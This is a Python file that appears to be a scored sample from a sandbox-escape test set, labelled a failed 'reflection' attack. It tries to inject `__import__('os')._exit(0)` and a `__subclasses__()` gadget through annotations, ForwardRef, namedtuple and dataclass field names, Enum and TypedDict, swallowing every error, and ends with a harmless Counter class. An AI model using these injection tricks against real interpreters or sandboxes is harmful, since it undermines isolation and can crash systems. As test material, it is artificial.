# attack: reflection
# verdict: fail import-error
# score: 0
# Text that others evaluate: annotations, forward references, the fields of named tuples and of data classes.
from __future__ import annotations

import collections
import dataclasses
import enum
import functools
import typing

GIFT = "().__class__.__base__.__subclasses__()"
CALL = "__import__('os')._exit(0)"


def annotated(a: typing.Any, b: typing.Any = None): ...


annotated.__annotations__ = {"a": CALL, "b": typing.ForwardRef(CALL), "return": GIFT}


def tries():
    yield lambda: typing.get_type_hints(annotated)
    yield lambda: typing.get_type_hints(type("T", (), {"__annotations__": {"x": CALL}}))
    yield lambda: collections.namedtuple("N", [CALL, "b"])
    yield lambda: collections.namedtuple("N", "a b", defaults=[1], module=CALL)
    yield lambda: dataclasses.make_dataclass("D", [("x", CALL, dataclasses.field(default_factory=list))])()
    yield lambda: dataclasses.make_dataclass("D", [("x): " + CALL + "\n def f(", int)])
    yield lambda: enum.Enum("E", {CALL: 1})
    yield lambda: functools.singledispatch(annotated).register(annotated)
    yield lambda: typing.NamedTuple("T", [("x", CALL)])
    yield lambda: typing.TypedDict("T", {"x": CALL})


for attempt in tries():
    try:
        attempt()
    except Exception:
        pass


class Counter:
    def __init__(self, start=0):
        self._value = start

    def increment(self, by=1):
        if not isinstance(by, int):
            raise TypeError("by must be an int")
        self._value += by
        return self._value

    @property
    def value(self):
        return self._value

    def reset(self):
        old, self._value = self._value, 0
        return old
